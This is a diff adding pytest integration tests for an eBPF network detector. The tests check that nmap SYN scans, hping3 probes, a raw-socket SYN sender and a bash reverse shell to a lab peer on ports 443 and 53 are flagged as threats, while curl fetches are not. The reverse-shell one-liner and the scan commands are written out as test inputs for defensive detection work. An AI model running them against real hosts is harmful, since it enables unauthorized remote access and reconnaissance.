@@ -1,0 +1,173 @@
+"""Outbound behaviour with the kernel and real tools (issue 12): the real
+pipeline `unified_ebpf.py --no-xdp | llm_analyzer.py --backend rules`, the
+loader in the lab's dut namespace, and from there Debian's nmap -sS, hping3,
+a home-made raw SYN sender, bash reverse shells to the peer on 443 and 53,
+and benign curl/HTTP fetches.
+
+The socket() tracepoints are machine-wide: other processes' raw sockets
+(another suite's hping3) show up in these records too, so every assertion
+names the pid this test started."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import textwrap
+
+import pytest
+
+from netlab import lab, kernel_test_skip_reason, read_json, validate, wait_until  # noqa: F401
+from netsentinel.testing.lab import start_pipeline
+
+SKIP = kernel_test_skip_reason()
+pytestmark = pytest.mark.skipif(SKIP is not None, reason=str(SKIP))
+
+LISTEN = textwrap.dedent("""
+    import socket, sys
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind((sys.argv[1], int(sys.argv[2])))
+    s.listen(1)
+    print("ready", flush=True)
+    c, _ = s.accept()
+    print("connected", flush=True)
+    sys.stdin.readline()   # hold the shell's connection open until told
+    c.close()
+""")
+
+RAW_SYN = textwrap.dedent("""
+    import socket, struct, sys
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+    tcp = struct.pack("!HHIIBBHHH", 40000, 22, 1, 0, 5 << 4, 0x02, 1024, 0, 0)
+    s.sendto(tcp, (sys.argv[1], 0))
+""")
+
+
+@pytest.fixture(scope="module")
+def pipeline(lab, tmp_path_factory):
+    records = tmp_path_factory.mktemp("records")
+    cfg = records / "filter_config.json"
+    cfg.write_text("{}")
+    loader, analyzer = start_pipeline(lab, records, cfg, ["--backend", "rules", "--status-interval",
+                                                          "0.3"], ["--no-xdp"])
+    try:
+        wait_until(lambda: (read_json(records / "analyzer_status.json") or {}).get("input", {})
+                   .get("other_events", {}).get("startup"), timeout=90, what="the pipeline to start")
+        yield records
+    finally:
+        loader.terminate()
+        assert loader.wait(timeout=30) == 0, (records / "loader.log").read_text()[-2000:]
+        assert analyzer.wait(timeout=30) == 0, (records / "analyzer.log").read_text()[-2000:]
+
+
+def judged(records, pid: int) -> list[dict]:
+    """Every verdict on an event of this pid, from the full history."""
+    try:
+        text = (records / "analyzed_events.jsonl").read_text()
+    except FileNotFoundError:
+        return []
+    return [e for e in map(json.loads, text.splitlines()) if e["event"].get("pid") == pid]
+
+
+def pending(records) -> list[dict]:
+    return [t for t in read_json(records / "pending_threats.json", []) if t["status"] == "pending"]
+
+
+def raw_verdicts(records, pid: int, timeout: float = 20) -> list[dict]:
+    return wait_until(lambda: [e for e in judged(records, pid) if e["event"]["type"] == "raw_socket"],
+                      timeout=timeout, what=f"raw_socket verdicts for pid {pid}")
+
+
+def test_nmap_syn_scan_is_a_critical_threat_naming_nmap(lab, pipeline):
+    p = subprocess.Popen(["ip", "netns", "exec", lab.dut, "nmap", "-sS", "-n", "-Pn", "-p", "1-200",
+                          "--max-retries", "0", lab.peer4], stdout=subprocess.DEVNULL,
+                         stderr=subprocess.DEVNULL)
+    assert p.wait(timeout=120) == 0
+    found = raw_verdicts(pipeline, p.pid)      # `ip netns exec` execs nmap: same pid
+    for e in found:
+        validate(dict(e["event"]))
+        assert e["event"]["comm"] == "nmap" and e["event"]["exe"] == "/usr/bin/nmap"
+        assert "-sS" in e["event"]["cmdline"]
+        assert (e["level"], e["category"]) == ("CRITICAL", "raw_scan")
+    assert wait_until(lambda: [t for t in pending(pipeline) if t["category"] == "raw_scan"
+                               and t["event"]["exe"] == "/usr/bin/nmap"], timeout=10,
+                      what="a pending raw_scan threat naming nmap")
+    # nmap -sS never calls connect(): no connection events, only the raw socket shows it.
+    assert not [e for e in judged(pipeline, p.pid) if e["event"]["type"] == "connection"]
+
+
+def test_hping3_syn_probe_names_hping3(lab, pipeline):
+    p = subprocess.Popen(["ip", "netns", "exec", lab.dut, "hping3", "-S", "-c", "3", "-i", "u10000",
+                          "-p", "80", lab.peer4], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    p.wait(timeout=60)   # hping3 exits 1 when no reply came back; the packets went out
+    found = raw_verdicts(pipeline, p.pid)
+    assert {e["event"]["comm"] for e in found} == {"hping3"}
+    assert all(e["level"] == "CRITICAL" and e["event"]["exe"] == "/usr/sbin/hping3" for e in found)
+
+
+def test_an_unknown_raw_sender_is_high_naming_the_process(lab, pipeline):
+    r = subprocess.Popen(["ip", "netns", "exec", lab.dut, "/usr/bin/python3", "-c", RAW_SYN,
+                          lab.peer4])
+    assert r.wait(timeout=30) == 0
+    (e,) = raw_verdicts(pipeline, r.pid)
+    assert e["event"]["comm"] == "python3" and e["event"]["exe"].startswith("/usr/bin/python3")
+    assert (e["level"], e["category"], e["rule_ids"]) == ("HIGH", "raw_socket", ["raw-socket"])
+
+
+@pytest.mark.parametrize("port", [443, 53])
+def test_bash_reverse_shell_is_critical_whatever_the_port(lab, pipeline, port):
+    listener = subprocess.Popen(["ip", "netns", "exec", lab.peer, "/usr/bin/python3", "-c", LISTEN,
+                                 lab.peer4, str(port)], stdin=subprocess.PIPE,
+                                stdout=subprocess.PIPE, text=True)
+    shell = None
+    try:
+        assert listener.stdout.readline().strip() == "ready"
+        shell = subprocess.Popen(["ip", "netns", "exec", lab.dut, "bash", "-c",
+                                  f"bash -i >& /dev/tcp/{lab.peer4}/{port} 0>&1"],
+                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        assert listener.stdout.readline().strip() == "connected"
+        threat = wait_until(lambda: [t for t in pending(pipeline) if t["category"] == "reverse_shell"
+                                     and t["event"]["dport"] == port], timeout=20,
+                            what=f"a reverse_shell threat on port {port}")[0]
+        ev = threat["event"]
+        assert threat["level"] == "CRITICAL" and threat["target"] == lab.peer4
+        assert ev["comm"] == "bash" and ev["exe"] == "/usr/bin/bash"
+        assert shell.pid in (ev["pid"], ev["ppid"])
+        assert ev["signals"]["stdio_socket"].endswith(f"tcp {lab.peer4}:{port} (ESTABLISHED)")
+        validate(dict(ev))
+    finally:
+        listener.stdin.write("\n")
+        listener.stdin.close()
+        listener.wait(timeout=10)
+        if shell is not None:
+            shell.kill()
+            shell.wait()
+
+
+def test_curl_and_http_fetches_raise_no_threat(lab, pipeline):
+    servers = [subprocess.Popen(["ip", "netns", "exec", lab.peer, "/usr/bin/python3", "-m",
+                                 "http.server", str(port), "--bind", "0.0.0.0"],
+                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+               for port in (80, 443)]
+    try:
+        wait_until(lambda: all(f":{p} " in lab.ns_exec(lab.peer, "ss", "-ltnH").stdout
+                               for p in (80, 443)), timeout=20, what="the peer's web servers")
+        pids = []
+        for url in (f"http://{lab.peer4}:443/", f"http://{lab.peer4}/", f"http://{lab.peer4b}/"):
+            c = subprocess.Popen(["ip", "netns", "exec", lab.dut, "curl", "-sf", "-o", "/dev/null", url])
+            assert c.wait(timeout=30) == 0
+            pids.append(c.pid)
+        fetch = subprocess.Popen(["ip", "netns", "exec", lab.dut, "/usr/bin/python3", "-c",
+                                  "import sys, urllib.request as u\n"
+                                  "for a in sys.argv[1:]: u.urlopen(f'http://{a}/').read()",
+                                  lab.peer4, lab.peer4b, lab.peer4])
+        assert fetch.wait(timeout=30) == 0
+        pids.append(fetch.pid)
+        for pid in pids:
+            seen = wait_until(lambda: judged(pipeline, pid), timeout=20, what=f"verdicts for {pid}")
+            assert all(e["level"] == "INFO" and "signals" not in e["event"] for e in seen), seen
+        assert not [t for t in pending(pipeline) if t["event"].get("pid") in pids]
+    finally:
+        for s in servers:
+            s.terminate()
+            s.wait(timeout=10)
